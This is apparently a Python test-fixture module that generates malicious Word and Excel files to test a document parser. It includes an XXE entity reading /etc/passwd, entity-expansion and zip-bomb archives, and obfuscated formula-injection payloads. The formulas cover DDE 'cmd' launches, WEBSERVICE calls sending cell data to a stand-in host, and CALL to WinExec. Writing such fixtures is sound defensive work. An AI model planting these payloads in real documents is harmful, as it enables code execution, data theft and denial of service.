"""How files are made that nobody should read: damaged, disguised, or built to do harm (`hostile_files`)."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import docx
import xlsxwriter

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
DOCTYPE = (
    b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'
)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def plain_word(*lines: str) -> bytes:
    document = docx.Document()
    for line in lines or ("A line",):
        document.add_paragraph(line)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def plain_excel() -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    book.add_worksheet("A").write_string(0, 0, "A cell")
    book.close()
    return out.getvalue()


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def changed(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    entries = parts(content)
    return packed(entries | {name: change(entries.get(name, b""))})


def with_part(content: bytes, name: str, part: bytes = b"x") -> bytes:
    return packed(parts(content) | {name: part})


def declared(part: bytes) -> bytes:
    head, _sep, rest = part.partition(b"?>")
    return head + b"?>" + DOCTYPE + rest


def declared_wide(part: bytes) -> bytes:
    text = part.decode().replace("UTF-8", "UTF-16", 1)
    head, _sep, rest = text.partition("?>")
    return (head + "?>" + DOCTYPE.decode() + rest).encode("utf-16")


def related(kind: str, target: str, outside: bool = True) -> Callable[[bytes], bytes]:
    mode = ' TargetMode="External"' if outside else ""
    row = f'<Relationship Id="rX" Type="{RELATION}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()
    return lambda part: part.replace(b"</Relationships>", row)


def field(instruction: str) -> Callable[[bytes], bytes]:
    run = f"<w:p><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p><w:sectPr".encode()
    return lambda part: part.replace(b"<w:sectPr", run, 1)


def locked(content: bytes) -> bytes:
    """The flag of a password on every entry, in both of its places."""
    data = bytearray(content)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(sign)
        while start >= 0:
            data[start + place] |= 1
            start = data.find(sign, start + 4)
    return bytes(data)


def twice(content: bytes, name: str) -> bytes:
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name.title(), b"<x/>")
    return out.getvalue()


def without(content: bytes, name: str) -> bytes:
    return packed({other: part for other, part in parts(content).items() if other != name})


def with_wrong_sum(content: bytes, name: str) -> bytes:
    """One byte of a part that is stored as it is differs from its checksum."""
    data = bytearray(packed(parts(content), zipfile.ZIP_STORED))
    place = data.find(name.encode()) + len(name) + 60
    data[place] ^= 0x20
    return bytes(data)


def huge(name: str, content: bytes, megabytes: int) -> bytes:
    """A part of zeros: small on the wire."""
    return packed(parts(content) | {name: b"\x00" * (megabytes * 1024 * 1024)})


def lying(content: bytes, name: str) -> bytes:
    """The directory says that the part is tiny, and it unpacks to 60 MB."""
    entries = parts(content)
    body = b"<a>" + b" " * (60 * 1024 * 1024) + b"</a>"
    data = packed(entries | {name: body})
    size = struct.pack("<I", len(body))
    return data.replace(size, struct.pack("<I", 100))


def two_gigabytes(content: bytes) -> bytes:
    """2 GB of zeros under one name, as the directory says; the stream itself is as short as it can be."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"\x00" * (1024 * 1024)
    stream = b"".join(squeezer.compress(block) for _ in range(8)) + squeezer.flush()
    data = bytearray(packed(parts(content) | {"word/media/image1.png": stream}, zipfile.ZIP_STORED))
    start = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/media/image1.png"))
    data[start + 24 : start + 28] = struct.pack("<I", 2_000_000_000)
    return bytes(data)


def deep(levels: int) -> Callable[[bytes], bytes]:
    return lambda part: part.replace(
        b"<w:sectPr", b"<w:sdt><w:sdtContent>" * levels + b"</w:sdtContent></w:sdt>" * levels + b"<w:sectPr", 1
    )


def split_field(*pieces: str) -> Callable[[bytes], bytes]:
    """The instruction of one field in several runs, as Word cuts it."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    start, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    run = f"<w:p>{start}{runs}{end}</w:p><w:sectPr".encode()
    return lambda part: part.replace(b"<w:sectPr", run, 1)


def in_header(content: bytes, instruction: str) -> bytes:
    head = f'<w:hdr xmlns:w="{W}"><w:p><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p></w:hdr>'
    return with_part(content, "word/header1.xml", head.encode())


def formula(said: str) -> Callable[[bytes], bytes]:
    row = f'<row r="9"><c r="A9"><f>{said}</f><v>1</v></c></row></sheetData>'.encode()
    return lambda part: part.replace(b"</sheetData>", row)


def renamed(content: bytes, name: str, other: str, change: Callable[[bytes], bytes]) -> bytes:
    """A part under another name, wherever it is named."""
    short, new = name.rsplit("/", 1)[-1].encode(), other.rsplit("/", 1)[-1].encode()
    entries = {path: part.replace(short, new) for path, part in parts(content).items()}
    moved = change(entries.pop(name))
    return packed(entries | {other: moved})


def many_heavy(content: bytes) -> bytes:
    """Parts of 9 MB each, 81 MB together."""
    return packed(parts(content) | {f"docProps/{n}.xml": b"<a>" + b" " * (9 * 1024 * 1024) + b"</a>" for n in range(9)})


@dataclass(frozen=True)
class Kind:
    """A harmless file of one kind, and what its parts are called; `text` is the part that holds the words."""

    name: str
    content: bytes
    folder: str
    main: str
    other_main: str
    text: str
    space: bytes

    @property
    def relations(self) -> str:
        folder, name = self.main.split("/")
        return f"{folder}/_rels/{name}.rels"


STRICT = {"Word": b"http://purl.oclc.org/ooxml/wordprocessingml/main",
          "Excel": b"http://purl.oclc.org/ooxml/spreadsheetml/main"}  # fmt: skip


def strict(kind: Kind) -> bytes:
    return changed(kind.content, kind.main, lambda part: part.replace(kind.space, STRICT[kind.name]))


TYPES, SHEET = "[Content_Types].xml", "xl/worksheets/sheet1.xml"
MACRO = b"application/vnd.ms-word.document.macroEnabled.main+xml"
MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD = Kind(
    "Word", plain_word(), "word", "word/document.xml", "xl/workbook.xml", "word/document.xml", W.encode()
)  # fmt: skip
EXCEL = Kind(
    "Excel", plain_excel(), "xl", "xl/workbook.xml", "word/document.xml", SHEET,
    b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
)  # fmt: skip
OUTSIDE_FORMULAS = {
    "a program": "cmd|&apos;/C calc&apos;!A0",
    "an address": "_xlfn.WEBSERVICE(&quot;http://a.example/&quot;&amp;B2)",
    "a server of data": "RTD(&quot;prog.id&quot;,,&quot;x&quot;)",
    "an address in pieces": "<![CDATA[_xlfn.WEBSERVICE(]]>&quot;http://a.example/&quot;)",
    "an address by numbers": "WEBSERVIC&#69;(&quot;http://a.example/&quot;)",
    "an address around a remark": "WEBSERVICE<!-- -->(&quot;http://a.example/&quot;)",
    "an address beside a sheet's name": "&apos;a&quot;b&apos;!A1&amp;WEBSERVICE(&quot;http://a.example/&quot;)",
    "an address beside a text": "&quot;it&apos;s&quot;&amp;WEBSERVICE(&quot;it&apos;s&quot;)",
    "for a picture": "_xlfn.IMAGE(&quot;http://a.example/&quot;&amp;A1)",
    "a program by numbers": "cmd&#124;&apos;/c calc&apos;!A1",
    "a library": "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)",
}
